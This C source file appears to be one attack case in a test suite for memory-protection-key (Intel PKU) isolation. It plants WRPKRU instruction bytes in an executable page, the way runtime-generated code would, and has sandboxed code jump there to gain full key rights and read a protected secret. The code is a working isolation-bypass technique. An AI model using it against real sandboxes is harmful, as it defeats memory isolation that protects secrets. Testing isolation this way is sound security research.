/* Tries: to find a WRPKRU in code that the host has generated at run time
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); PKU Pitfalls (Connor et al.,
 *   USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, host-code */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
/* WRPKRU with all rights asked for, wherever it is, and back by the return that follows. */
static void LOCAL(open)(uint64_t code)
{
    __asm__ volatile("xor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%0"
                     :
                     : "r"(code)
                     : "rax", "rcx", "rdx", "memory");
}

FOREIGN(run)
{
    if (at->gate_start && at->stray_code)
        LOCAL(open)(at->stray_code);
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <sys/mman.h>

/* As a compiler at run time leaves a page: executable. */
HOST(before)
{
    static const volatile uint8_t code[] = {0x0f, 0x01, 0xef, 0xc3}; /* not in the code itself */
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED)
        abort();
    for (size_t i = 0; i < sizeof(code); i++)
        ((uint8_t *)page)[1000 + i] = code[i];
    mprotect(page, 4096, PROT_READ | PROT_EXEC);
    host->places[PLACE_stray_code] = (uintptr_t)page + 1000;
}

HOST(after)
{
    munmap((void *)(uintptr_t)(host->places[PLACE_stray_code] - 1000), 4096);
}
#endif
